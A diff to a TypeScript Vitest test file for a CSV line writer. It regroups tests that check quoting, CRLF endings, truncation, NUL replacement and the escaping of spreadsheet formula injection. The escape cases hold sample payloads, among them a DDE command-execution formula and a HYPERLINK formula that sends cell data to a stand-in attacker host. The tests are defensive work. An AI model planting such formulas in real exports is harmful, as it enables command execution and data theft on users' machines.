@@ -1,64 +1,66 @@
-import { expect, test } from 'vitest';
+import { describe, expect, test } from 'vitest';
 import { csvLine } from './csv';
 
 const cell = (text: string) => csvLine([text]);
 
-test('a line has all cells, quoted where they are texts, and ends as RFC 4180 says', () => {
-  expect(csvLine(['a', 1, true, null, undefined, ''])).toBe('"a",1,true,,,""\r\n');
-});
+describe('toCsvLine', () => {
+  test('quotes texts and ends with CRLF, as RFC 4180 requires', () => {
+    expect(csvLine(['a', 1, true, null, undefined, ''])).toBe('"a",1,true,,,""\r\n');
+  });
 
-test('quotes, commas and line breaks stay inside a cell', () => {
-  expect(cell('say "no", then\r\nleave\nnow')).toBe('"say ""no"", then\r\nleave\nnow"\r\n');
-});
+  test('keeps quotes, commas and line breaks inside a cell', () => {
+    expect(cell('say "no", then\r\nleave\nnow')).toBe('"say ""no"", then\r\nleave\nnow"\r\n');
+  });
 
-test.each([
-  '=1+1',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  '\tplain',
-  '  \tplain',
-  '   =1',
-  '"=1"',
-  `'"=1`,
-  '\u00A0=1',
-  '\u3000=1',
-  '\uFEFF=1',
-  '\u202E=1',
-  '\u2066\u200B@x',
-  '＝1+1',
-  '－2',
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example?x="&A1,"click")',
-])('%j is no formula', (text) => {
-  expect(cell(text)).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
-});
+  test.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '\tplain',
+    '  \tplain',
+    '   =1',
+    '"=1"',
+    `'"=1`,
+    '\u00A0=1',
+    '\u3000=1',
+    '\uFEFF=1',
+    '\u202E=1',
+    '\u2066\u200B@x',
+    '＝1+1',
+    '－2',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  ])('escapes the formula %j', (text) => {
+    expect(cell(text)).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
+  });
 
-test.each([
-  'a=1',
-  '任务-1',
-  'x@example.com',
-  '36db69c5-b2d5-11eb-b044-0255ac101219',
-  '"quoted"',
-  ' 5',
-  '\u202Eabc',
-])('%j stays as it is', (text) => {
-  expect(cell(text)).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
-});
+  test.each([
+    'a=1',
+    '任务-1',
+    'x@example.com',
+    '36db69c5-b2d5-11eb-b044-0255ac101219',
+    '"quoted"',
+    ' 5',
+    '\u202Eabc',
+  ])('leaves %j unchanged', (text) => {
+    expect(cell(text)).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
+  });
 
-test('a cell is cut before a spreadsheet would spill it, quickly whatever is in it', () => {
-  const before = performance.now();
-  for (const part of ['x', ' ', '"', "'", '\u202E', '=']) {
-    const line = cell(part.repeat(1024 * 1024));
-    expect(line.length).toBeLessThan(64_010);
-    expect(line).toMatch(/…"\r\n$/);
-  }
-  expect(performance.now() - before).toBeLessThan(2_000);
-});
+  test('truncates a long cell in linear time', () => {
+    const before = performance.now();
+    for (const part of ['x', ' ', '"', "'", '\u202E', '=']) {
+      const line = cell(part.repeat(1024 * 1024));
+      expect(line.length).toBeLessThan(64_010);
+      expect(line).toMatch(/…"\r\n$/);
+    }
+    expect(performance.now() - before).toBeLessThan(2_000);
+  });
 
-test('a NUL ends no cell', () => {
-  expect(cell('a\0b')).toBe('"a\uFFFDb"\r\n');
+  test('replaces a NUL character', () => {
+    expect(cell('a\0b')).toBe('"a\uFFFDb"\r\n');
+  });
 });
